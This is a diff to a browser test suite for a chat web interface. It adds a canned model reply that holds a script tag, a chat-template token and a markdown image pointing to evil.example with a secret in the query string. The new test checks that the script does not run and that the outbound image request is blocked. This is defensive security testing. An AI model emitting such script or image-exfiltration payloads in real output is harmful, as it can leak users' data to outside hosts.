@@ -13,6 +13,20 @@ from .browser import DESKTOP, PHONE, Reader, chromium
 from .test_openai_api import ask
 
 LONGEST = 1900
+EVERYTHING = """<b>bold</b> <im_start> <script>document.title = "taken"</script>
+
+```python
+print("hello")
+```
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+$$x^2$$
+
+![picture](http://evil.example/?secret)
+"""
 
 
 class Talkative(JAXServer):
@@ -21,6 +35,8 @@ class Talkative(JAXServer):
     def process(self, string, greedy=False, max_new_tokens=None, *, temperature=None):
         if "break down" in string:
             return self.broken()
+        if "everything" in string:
+            return iter([(EVERYTHING, 9)])
         stream = self._pipeline.stream_generate(
             string, max_new_tokens=max_new_tokens, temperature=temperature, ignore_eos=True
         )
@@ -69,7 +85,7 @@ def opened(browser):
     yield opened
     for reader in readers:
         reader.close()
-    assert [reader.complaints for reader in readers] == [[] for _ in readers]
+    assert [reader.complaints + reader.elsewhere for reader in readers] == [[] for _ in readers]
 
 
 def test_a_dialog(server, opened):
@@ -195,6 +211,20 @@ def test_a_fault_in_the_middle_keeps_what_arrived(talkative, opened, caplog):
     assert "could not answer" in reader.note()
     assert "secret" not in reader.page.content()
     assert reader.page.is_enabled("#submit")
+
+
+def test_what_a_model_writes_reaches_no_other_host(talkative, browser):
+    reader = Reader(browser, f"{talkative.url}/gradio_chat")
+    reader.answer("Show everything.")
+    assert reader.page.wait_for_selector("#answer .bot-row code, #answer .bot-row pre").is_visible()
+    reader.page.wait_for_selector("#answer .bot-row .katex")
+    assert reader.page.title() != "taken"
+    assert reader.page.query_selector("#answer img")
+    (told,) = reader.complaints
+    assert "evil.example" in told
+    assert "blocked" in told
+    assert reader.elsewhere == []
+    reader.close()
 
 
 @pytest.mark.parametrize("dark", [False, True])
